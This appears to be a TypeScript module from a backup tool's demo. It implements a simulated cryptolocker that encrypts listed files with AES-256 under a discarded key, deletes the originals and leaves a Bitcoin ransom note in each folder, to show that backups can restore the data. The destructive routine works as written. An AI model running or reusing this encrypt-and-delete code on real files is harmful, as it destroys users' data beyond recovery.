/**
 * The attack `rempart demo` plays: what a cryptolocker does to a share, for real, on the demo's
 * own copy. Each file is encrypted with AES-256-CTR under a key that is then thrown away (as the
 * attacker keeps it), written as `name.ext.locked`, and the original removed; every folder it
 * went through gets a ransom note. Only the backup can bring the files back.
 */
import { randomBytes } from "node:crypto";
import { readFile, unlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { encrypt } from "./sample-files.js";

export const RANSOM_EXTENSION = ".locked";
export const RANSOM_NOTE = "HOW_TO_DECRYPT.txt";

const NOTE = [
  "YOUR FILES ARE ENCRYPTED.",
  "Documents, spreadsheets, photos and databases were encrypted with AES-256.",
  "To get them back, send 2 BTC and this ID to the address below. Do not rename the files.",
  "(This is the note of `rempart demo`'s simulated attack: nothing here leaves this machine.)",
  "",
].join("\n");

export interface Attack {
  readonly encrypted: number;
  readonly bytes: number;
  readonly notes: number;
}

/** Encrypts `names` (paths below `root`) in place of the originals and leaves the notes. */
export async function runCryptolocker(root: string, names: readonly string[]): Promise<Attack> {
  const key = randomBytes(32);
  const folders = new Set<string>();
  let bytes = 0;
  for (const name of names) {
    const path = join(root, name);
    const plain = await readFile(path);
    // A fresh IV per file, as real families do: equal files do not encrypt to equal bytes.
    await writeFile(`${path}${RANSOM_EXTENSION}`, encrypt(plain, randomBytes(16), key));
    await unlink(path);
    bytes += plain.length;
    folders.add(dirname(path));
  }
  for (const folder of folders) await writeFile(join(folder, RANSOM_NOTE), NOTE);
  return { encrypted: names.length, bytes, notes: folders.size };
}
